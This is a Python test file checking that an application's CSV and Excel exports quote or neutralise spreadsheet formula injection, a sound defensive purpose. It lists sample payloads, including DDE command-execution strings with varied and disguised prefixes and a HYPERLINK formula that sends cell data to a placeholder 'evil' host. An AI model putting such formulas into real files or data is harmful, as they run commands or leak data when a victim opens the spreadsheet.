"""R25: no file that the desk writes has a cell that a spreadsheet would run, and reading it back gives what was written."""

from __future__ import annotations

import csv
import io
import tomllib
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from agency_core.analytics.export_csv import is_formula, plain
from agency_core.analytics.report_sheets import write_csv, write_xlsx
from agency_core.domain.audit import AuditView
from agency_core.domain.clock import SystemClock
from agency_core.services.audit_sheet import csv_lines
from agency_core.ui.kit.csv_file import csv_text
from tests.house.tree import ROOT, core, name, parsed

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"]
EVIL = [f"{start}cmd|' /C calc'!A0" for start in STARTS] + [
    " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff@SUM(A1)", "\x00=1", "'=1", "''=1", "=HYPERLINK(\"http://evil/?\"&A1)",
    "-2+3+cmd",
]
WORDS = st.sampled_from(EVIL) | st.text(st.sampled_from("=+-@'\t ,\";a1＝\u200b"), max_size=8) | st.text(max_size=10)
FEW = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _by_dashboard(text, _folder):
    return _cells(csv_text([{"Text": text}]))[1:]


def _by_trail(text, _folder):
    entry = AuditView(1, SystemClock().now(), text, "", "a.b", "", "", "done", "", {}, "", "")
    return _cells("".join(csv_lines([entry])).removeprefix("\ufeff"))


def _by_report(text, folder):
    write_csv({"Posts": (("Text",), [(text,)])}, folder / "r.zip")
    with zipfile.ZipFile(folder / "r.zip") as opened:
        return _cells(opened.read(opened.namelist()[0]).decode("utf-8-sig"))


WAYS = {"dashboard": _by_dashboard, "trail": _by_trail, "report": _by_report}


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
@pytest.mark.parametrize("text", EVIL, ids=ascii)
def test_formula_is_quoted_in_every_csv(tmp_path, way, text):
    assert [cell for cell in way(text, tmp_path) if is_formula(cell)] == []


@FEW
@given(WORDS)
def test_formula_in_a_csv_reads_back_as_it_was_written(text):
    found = csv_text([{"Text": text}])
    assert plain(next(csv.DictReader(io.StringIO(found, newline="")))["Text"]) == text


@FEW
@given(st.lists(WORDS, min_size=1, max_size=4))
def test_formula_in_a_workbook_is_text_and_reads_back(tmp_path, cells):
    write_xlsx({"Posts": (("Text",), [(cell,) for cell in cells])}, tmp_path / "r.xlsx")
    sheet = load_workbook(tmp_path / "r.xlsx")["Posts"]
    found = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in found} <= {"s", "n", "inlineStr"}
    assert [cell.value for cell in found if isinstance(cell.value, str) and cell.data_type == "f"] == []


def test_formula_cannot_leave_by_the_toolbar_of_tables():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


def test_formula_safe_writer_is_the_only_one():
    """Whoever writes rows as CSV, in whatever file, does so through the one function that quotes."""
    writers = [path for path in core() if "csv.writer(" in path.read_text("utf-8") or "DictWriter(" in path.read_text("utf-8")]
    strays = [name(path) for path in writers if "sandbox" not in path.parts and "safe(" not in path.read_text("utf-8")]
    assert (strays, bool(writers), bool(parsed(writers[0]))) == ([], True, True)
